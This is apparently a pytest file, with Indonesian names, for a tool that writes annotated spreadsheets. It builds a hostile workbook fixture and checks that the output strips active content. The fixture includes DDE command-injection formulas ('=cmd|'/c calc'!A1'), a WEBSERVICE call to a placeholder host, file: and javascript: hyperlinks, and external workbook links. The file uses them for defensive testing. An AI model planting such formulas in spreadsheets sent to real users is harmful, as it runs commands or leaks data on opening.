"""A marked workbook does nothing: what a stranger's file runs, fetches or points to is gone."""

import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.chart import BarChart, Reference
from openpyxl.formatting.rule import FormulaRule
from openpyxl.packaging.custom import StringProperty
from openpyxl.packaging.relationship import Relationship
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.workbook.external_link.external import ExternalBook, ExternalLink
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.formula import ArrayFormula
from openpyxl.worksheet.hyperlink import Hyperlink
from openpyxl.worksheet.table import Table, TableColumn, TableFormula

from imports.annotate import tulis_beranotasi

RUMUS = {
    "B2": "=cmd|'/c calc'!A1",
    "B3": '=WEBSERVICE("http://contoh.invalid/"&A2)',
    "B4": '=HYPERLINK("http://contoh.invalid","klik")',
    "B5": "='[1]Gaji'!A1",
}
HITUNG = {"B2": 12, "B3": "=2+2", "B4": "#REF!", "B5": None, "C2": 7}
"""What the file stored for each formula; a text that looks like one stays a text."""


def jahat(path: Path) -> Path:
    """A workbook with everything that acts or reaches out; formulas have stored values."""
    book = Workbook()
    sheet = book.worksheets[0]
    sheet.title = "Isi"
    sheet.append(["Nomor", "Anggaran", "Target"])
    for no in range(2, 6):
        sheet.append([str(no), None, None])
    for alamat, rumus in RUMUS.items():
        sheet[alamat] = rumus
    sheet["C2"] = ArrayFormula("C2:C3", "=SUM(A2:A5)")
    sheet["A7"] = "=teks"
    sheet["A7"].data_type = "s"
    for alamat, tuju in (("A2", "file:///c:/x.exe"), ("A3", "javascript:alert(1)")):
        sheet[alamat].hyperlink = tuju
    sheet["A4"].hyperlink = Hyperlink(ref="A4", location="'[1]Gaji'!A1")
    book.defined_names["Jahat"] = DefinedName("Jahat", attr_text="cmd|'/c calc'!A1")
    sheet.defined_names["Lokal"] = DefinedName("Lokal", attr_text="SUM(Isi!$A$1:$A$9)")
    for jenis, satu in (
        ("custom", 'WEBSERVICE("http://contoh.invalid")=1'),
        ("list", "'[1]Gaji'!$A$1:$A$9"),
        ("list", "Jahat"),
        ("list", '"Ya,Tidak"'),
        ("list", "'Daftar unit'!$A$2:$A$9"),
        ("whole", "5"),
    ):
        rule = DataValidation(type=jenis, formula1=satu)
        rule.add("D2:D9")
        sheet.data_validations.append(rule)
    sheet.conditional_formatting.add("A1:A9", FormulaRule(formula=["Jahat>1"]))
    table = Table(displayName="Tabel", ref="E1:E3")
    table.tableColumns = [
        TableColumn(
            id=1, name="X", calculatedColumnFormula=TableFormula(attr_text="cmd|'/c calc'!A1")
        )
    ]
    sheet["E1"] = "X"
    sheet.add_table(table)
    for place in (sheet, book.create_chartsheet("Grafik")):
        chart = BarChart()
        chart.add_data(Reference(sheet, min_col=1, min_row=1, max_row=5))
        place.add_chart(chart)
    book.create_sheet("Lain")["A1"] = "=Isi!A2"
    link = ExternalLink(externalBook=ExternalBook(id="rId1"))
    link.file_link = Relationship(
        type="externalLinkPath", Target="file:///c:/gaji.xlsx", TargetMode="External", Id="rId1"
    )
    book._external_links.append(link)
    book.custom_doc_props.append(StringProperty(name="a", value="b"))
    book.save(path)
    return _dihitung(path)


def _dihitung(path: Path) -> Path:
    """Store a value beside each formula, as Excel does."""
    with zipfile.ZipFile(path) as paket:
        isi = {nama: paket.read(nama) for nama in paket.namelist()}
    xml = isi["xl/worksheets/sheet1.xml"].decode()
    for alamat, nilai in HITUNG.items():
        jenis = {int: "n", str: "str"}.get(type(nilai), "n")
        jenis = "e" if nilai == "#REF!" else jenis
        badan = "" if nilai is None else f"<v>{nilai}</v>"
        xml, kali = re.subn(
            rf'<c r="{alamat}"[^>]*>(<f.*?</f>)<v ?/?>(?:</v>)?</c>',
            lambda m, a=alamat, j=jenis, b=badan: f'<c r="{a}" t="{j}">{m[1]}{b}</c>',
            xml,
        )
        assert kali == 1, (alamat, xml)
    isi["xl/worksheets/sheet1.xml"] = xml.encode()
    with zipfile.ZipFile(path, "w") as paket:
        for nama, data in isi.items():
            paket.writestr(nama, data)
    return path


@pytest.fixture(scope="module")
def bertanda(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("padam")
    asal, target = jahat(folder / "a.xlsx"), folder / "b.xlsx"
    assert tulis_beranotasi(asal, "xlsx", "Isi", [(2, 2, "galat", "Salah.")], [], target) is True
    return target


def test_the_parts_hold_nothing_that_acts(bertanda: Path) -> None:
    with zipfile.ZipFile(bertanda) as paket:
        isi = {nama: paket.read(nama).decode() for nama in paket.namelist() if "xl/" in nama}
        names = paket.namelist()
    asing = ("external", "chart", "table", "pivot", "custom", "connection", "vba", "embed")
    assert [nama for nama in names if any(kata in nama.lower() for kata in asing)] == []
    assert "docProps/custom.xml" not in names
    semua = "\n".join(isi[nama] for nama in isi if "comment" not in nama)
    tanda = ("TargetMode", "hyperlink", "definedName ", "conditionalFormatting", "cmd|")
    assert [kata for kata in tanda if kata in semua] == []
    assert [nama for nama in isi if "/sheet" in nama and re.search("<f[ >/]", isi[nama])] == []
    assert re.findall("<formula1>(.*?)</formula1>", isi["xl/worksheets/sheet1.xml"]) == [
        '"Ya,Tidak"',
        "'Daftar unit'!$A$2:$A$9",
        "5",
    ]


def test_values_stand_where_formulas_stood(bertanda: Path) -> None:
    book = load_workbook(bertanda)
    assert book.sheetnames == ["Isi", "Lain", "Keterangan Pantas"]
    sheet = book["Isi"]
    assert [(sheet[a].value, sheet[a].data_type) for a in (*HITUNG, "A7")] == [
        (12, "n"),
        ("=2+2", "s"),
        ("#REF!", "e"),
        (None, "n"),
        (7, "n"),
        ("=teks", "s"),
    ]
    assert (sheet["B3"].quotePrefix, sheet["A7"].quotePrefix) == (True, True)
    assert {a: c.text for a in HITUNG if (c := sheet[a].comment) is not None} == {
        "B2": f"Salah.\n\nCatatan semula:\nRumus semula: {RUMUS['B2']}",
        **{a: f"Rumus semula: {RUMUS[a]}" for a in ("B3", "B4", "B5")},
        "C2": "Rumus semula: =SUM(A2:A5)",
    }
    assert (sheet["A2"].value, sheet["A2"].hyperlink) == ("2", None)
